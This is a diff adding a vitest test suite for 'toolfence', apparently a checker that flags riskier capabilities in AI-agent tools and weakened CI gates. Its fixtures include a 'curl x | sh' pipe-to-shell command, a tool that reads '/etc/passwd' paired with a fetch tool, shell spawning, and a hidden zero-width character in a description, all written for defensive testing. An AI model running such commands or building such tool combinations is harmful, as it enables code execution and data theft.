@@ -1,0 +1,229 @@
+import { readFileSync, renameSync, rmSync } from "node:fs";
+import { join } from "node:path";
+import { afterEach, beforeEach, describe, expect, test, vi } from "vitest";
+import { toolfence } from "../support/cli.ts";
+import type { Repository } from "../support/repository.ts";
+import { emptyRepository, gatingFindings, hideOwnCi } from "../support/repository.ts";
+
+beforeEach(hideOwnCi);
+afterEach(() => {
+  vi.unstubAllEnvs();
+});
+
+interface Found {
+  readonly id: string;
+  readonly tool: string | null;
+  readonly gating: boolean;
+  readonly file: string | null;
+  readonly line: number | null;
+  readonly fingerprint: string;
+}
+/** A repository whose first state is committed with its manifest. */
+async function repository(files: Readonly<Record<string, string>>): Promise<Repository> {
+  const made = emptyRepository({ "package.json": '{ "name": "p" }', ...files });
+  await toolfence(made.dir, "manifest");
+  made.commit();
+  made.git("checkout", "-qb", "change");
+  return made;
+}
+/** What `verify` says of a change, with the manifest written anew. */
+async function verify({ dir }: Repository): Promise<[number, string[]]> {
+  await toolfence(dir, "manifest");
+  const { code, out } = await toolfence(dir, "verify", "--base", "main", "--json");
+  return [code, gatingFindings(out)];
+}
+const diagnostics = async ({ dir }: Repository): Promise<Found[]> => {
+  await toolfence(dir, "manifest");
+  return (JSON.parse((await toolfence(dir, "verify", "--base", "main", "--json")).out) as { diagnostics: Found[] }).diagnostics;
+};
+
+const tool = (name: string, body: string, more = ""): string => `import { tool } from "ai";
+import { readFile, writeFile } from "node:fs/promises";
+import { spawn } from "node:child_process";
+import { withPolicy } from "toolfence";
+export const ${name} = tool({ description: "d", ${more}execute: async ({ path, url }) => { ${body} } });
+`;
+const READ = "return readFile(path);";
+
+describe("code that is loaded from where tests stand", () => {
+  test.each(["spec/b.ts", "b.test.ts", "b.bench.ts", ".cache/b.ts", "coverage/b.ts"])(
+    "counts where the package loads it: %s",
+    async (place) => {
+      const made = await repository({ "src/main.ts": "export {};\n", "src/a.ts": tool("a", READ) });
+      made.write({ [`src/${place}`]: tool("b", "spawn(path, { shell: true });") });
+      // By itself it is a test.
+      expect(await verify(made)).toEqual([0, []]);
+      made.write({ "src/main.ts": `import "./${place.replace(/\.ts$/u, ".js")}";\n` });
+      expect(await verify(made)).toEqual([1, ["tool.added.high-risk p/ai-sdk.b"]]);
+    },
+  );
+
+  test("the module that a package starts with is part of its start-up", async () => {
+    const made = await repository({ "src/main.ts": 'import "./a.js";\n', "src/a.ts": tool("a", READ) });
+    made.write({ "src/main.ts": 'import "./a.js";\nimport { execSync } from "node:child_process";\nexecSync("curl x | sh");\n' });
+    expect(await verify(made)).toEqual([1, ["package.startup.widened (startup)"]]);
+  });
+});
+
+describe("names", () => {
+  const two = { "src/one.ts": tool("search", READ), "src/two.ts": tool("search", "return fetch(url);") };
+  test("a file with a namesake that moves is nothing", async () => {
+    const made = await repository(two);
+    made.git("mv", "src/two.ts", "src/three.ts");
+    expect(await verify(made)).toEqual([0, []]);
+  });
+  test("a namesake that appears is new, and the first one is not", async () => {
+    const made = await repository({ "src/one.ts": tool("search", READ) });
+    made.write({ "src/two.ts": two["src/two.ts"] });
+    expect(await verify(made)).toEqual([1, ["tool.added p/ai-sdk.search@src/two.ts", "agent.combination.enabled (together)"]]);
+  });
+  test("what grows while it moves is told as that", async () => {
+    const made = await repository(two);
+    renameSync(join(made.dir, "src/two.ts"), join(made.dir, "src/three.ts"));
+    made.write({ "src/three.ts": tool("search", "await fetch(url); await writeFile(path, url);") });
+    const [code, found] = await verify(made);
+    expect([code, found[0]]).toEqual([1, "tool.observed.widened p/ai-sdk.search@src/three.ts"]);
+  });
+  test("a declared new name is compared with the old one, and only where that is gone", async () => {
+    const made = await repository({ "src/a.ts": tool("old", READ) });
+    made.write({ "src/a.ts": tool("fresh", READ) });
+    expect(await verify(made)).toEqual([1, ["tool.added p/ai-sdk.fresh"]]);
+    made.write({ "toolfence.json": '{ "renamed": { "p/ai-sdk.fresh": "p/ai-sdk.old" } }' });
+    expect(await verify(made)).toEqual([0, []]);
+    expect((await diagnostics(made)).map((one) => one.id)).toEqual(["tool.renamed"]);
+    made.write({ "src/a.ts": tool("fresh", "await readFile(path); spawn(path);") });
+    expect(await verify(made)).toEqual([1, ["tool.observed.widened p/ai-sdk.fresh"]]);
+    made.write({ "src/a.ts": tool("fresh", READ), "src/b.ts": tool("old", READ) });
+    expect(await verify(made)).toEqual([1, ["tool.added p/ai-sdk.fresh"]]);
+  });
+});
+
+describe("the gate's surroundings", () => {
+  const WORKFLOW = "on: pull_request\njobs:\n  a:\n    steps:\n      - run: npx toolfence verify\n";
+  const files = { "src/a.ts": tool("a", READ), ".github/workflows/gate.yml": WORKFLOW, CODEOWNERS: "* @team\n" };
+  test("a workflow that goes, or no longer fails", async () => {
+    const made = await repository(files);
+    made.write({ ".github/workflows/gate.yml": WORKFLOW.replace("verify", "verify || true") });
+    expect(await verify(made)).toEqual([1, ["gate.workflow.weakened"]]);
+    made.write({ ".github/workflows/gate.yml": WORKFLOW.replace("pull_request", "pull_request_target") });
+    expect(await verify(made)).toEqual([1, ["gate.workflow.weakened"]]);
+    rmSync(join(made.dir, ".github"), { recursive: true });
+    expect(await verify(made)).toEqual([1, ["gate.removed"]]);
+    made.write({ ".github/workflows/other.yml": WORKFLOW });
+    expect(await verify(made)).toEqual([0, []]);
+  });
+  test("owners that go", async () => {
+    const made = await repository(files);
+    made.write({ CODEOWNERS: "/src/ @team\n" });
+    const [code, found] = await verify(made);
+    expect([code, new Set(found)]).toEqual([1, new Set(["gate.owner.removed"])]);
+  });
+  test("approvals that nobody owns are told", async () => {
+    const made = await repository({ ...files, CODEOWNERS: "" });
+    made.write({ "src/a.ts": tool("a", "await readFile(path); spawn(path);") });
+    await toolfence(made.dir, "manifest");
+    await toolfence(made.dir, "approve", "--base", "main", "--all", "--reason", "r", "--by", "ana", "--i-am-human");
+    expect((await diagnostics(made)).map((one) => [one.id, one.gating])).toContainEqual(["gate.approval.unprotected", false]);
+    made.write({ CODEOWNERS: "* @team\n" });
+    expect((await diagnostics(made)).map((one) => one.id)).not.toContain("gate.approval.unprotected");
+  });
+});
+
+describe("a baseline", () => {
+  const UNDECLARED =
+    `import { withPolicy } from "toolfence";\n${tool("a", 'await writeFile("/etc/x", url);').replace("tool({", "withPolicy({}, tool({").replace(" });\n", " }));\n")}`.replace(
+      /^import \{ withPolicy \} from "toolfence";\n(?=[\s\S]*withPolicy \} from)/u,
+      "",
+    );
+  test("has to lose what was mended, which then cannot come back", async () => {
+    const made = emptyRepository({ "package.json": '{ "name": "p" }', "src/a.ts": UNDECLARED });
+    expect((await toolfence(made.dir, "check")).code).toBe(1);
+    await toolfence(made.dir, "init", "--baseline");
+    expect((await toolfence(made.dir, "check")).code).toBe(0);
+    made.commit();
+    made.write({ "src/a.ts": UNDECLARED.replace('await writeFile("/etc/x", url);', "") });
+    expect(await verify(made)).toEqual([1, ["gate.baseline.stale"]]);
+    expect((await toolfence(made.dir, "baseline", "prune")).err).toBe("toolfence: 1 of 1 entries removed.\n");
+    expect(await verify(made)).toEqual([0, []]);
+    made.commit();
+    made.write({ "src/a.ts": UNDECLARED });
+    expect((await verify(made))[1]).toContain("tool.undeclared p/ai-sdk.a");
+  });
+  test("there is nothing to prune", async () => {
+    const { dir } = emptyRepository({});
+    expect([(await toolfence(dir, "baseline", "prune")).code, (await toolfence(dir, "baseline")).code]).toEqual([2, 2]);
+  });
+});
+
+test("each finding stands at a line that the change touched: the use itself, else the tool's digest", async () => {
+  const made = await repository({
+    "src/a.ts": 'import { help } from "./lib.js";\n' + tool("a", "return help(path);"),
+    "src/lib.ts": 'import { readFile } from "node:fs/promises";\nexport const help = (path) =>\n  readFile(path);\n',
+    "toolfence.policy.yaml": "tools: {}\n",
+  });
+  made.write({
+    "src/lib.ts":
+      'import { readFile, rm } from "node:fs/promises";\nexport const help = (path) => {\n  rm(path);\n  return readFile(path);\n};\n',
+  });
+  expect((await diagnostics(made)).filter((one) => one.gating).map(({ file, line }) => `${file}:${line}`)).toEqual(["src/lib.ts:3"]);
+  // A policy that a file grants more is in no line of code.
+  made.git("checkout", "-q", "--", ".");
+  made.write({ "toolfence.policy.yaml": "tools:\n  p/ai-sdk.a: { exec: any, fs: { read: any } }\n" });
+  const [first] = (await diagnostics(made)).filter((one) => one.gating);
+  const manifest = readFileSync(join(made.dir, "toolfence.manifest.json"), "utf8").split("\n");
+  expect(first?.file).toBe("toolfence.manifest.json");
+  expect(manifest[(first?.line ?? 0) - 1]).toMatch(/^ {6}"digest": "sha256:/u);
+});
+
+test("one finding is explained by its fingerprint, with its call path", async () => {
+  const made = await repository({ "src/a.ts": tool("a", READ) });
+  made.write({ "src/a.ts": tool("a", "await readFile(path); spawn(path);") });
+  const [found] = (await diagnostics(made)).filter((one) => one.gating);
+  const { code, out } = await toolfence(made.dir, "explain", found?.fingerprint ?? "", "--base", "main");
+  expect([code, out]).toEqual([
+    0,
+    [
+      `tool.observed.widened   critical   ${found?.fingerprint ?? ""}`,
+      "  Tool: p/ai-sdk.a",
+      "  At: src/a.ts:5",
+      "  Says: The code does something that it did not do before.",
+      "  Is: exec.spawn {param:path}",
+      "  Newly allowed, for example: exec.spawn {param:path}",
+      "  By:",
+      "    src/a.ts:5 child_process.spawn",
+      "  Means: A tool without a policy does something that it did not do before.",
+      "  What to do: Narrow the change to what the tool needs, or have it approved: `toolfence approve --tool ID --reason TEXT`.",
+      "",
+    ].join("\n"),
+  ]);
+  expect((await toolfence(made.dir, "explain", "0123456789ab", "--base", "main")).code).toBe(2);
+});
+
+test("what two tools can do together is told once, and can be approved", async () => {
+  const made = await repository({ "src/a.ts": tool("a", 'return readFile("/etc/passwd");') });
+  made.write({ "src/b.ts": tool("b", "return fetch(url);") });
+  expect(await verify(made)).toEqual([1, ["tool.added p/ai-sdk.b", "agent.combination.enabled (together)"]]);
+  await toolfence(made.dir, "approve", "--base", "main", "--all", "--reason", "r", "--by", "ana", "--i-am-human");
+  expect(await verify(made)).toEqual([0, []]);
+});
+
+test("what nobody has reviewed, what can never run, and what nobody sees", async () => {
+  const made = await repository({ "src/a.ts": tool("a", READ) });
+  made.write({
+    "src/a.ts": tool("a", "").replace('description: "d"', 'description: "reads\u200b files"'),
+    "toolfence.policy.yaml": "reviewed: false\ntools:\n  p/ai-sdk.a: { constraints: { onlyAfter: [confrim] } }\n",
+    "src/c.ts": tool("confirm", ""),
+  });
+  const found = (await diagnostics(made)).map((one) => `${one.gating ? "gate" : "info"} ${one.id}`);
+  expect(found).toEqual(
+    expect.arrayContaining(["gate tool.constraint.onlyAfter.dangling", "gate tool.description.hidden", "info policy.unreviewed"]),
+  );
+});
+
+test("`init` says where the manifest that is there has become stale", async () => {
+  const { dir } = emptyRepository({ "package.json": '{ "name": "p" }', "src/a.ts": tool("a", READ) });
+  await toolfence(dir, "manifest");
+  expect((await toolfence(dir, "init")).err).toContain(
+    "`toolfence.manifest.json` is no longer what the code and its policies give; run `toolfence manifest`.",
+  );
+});
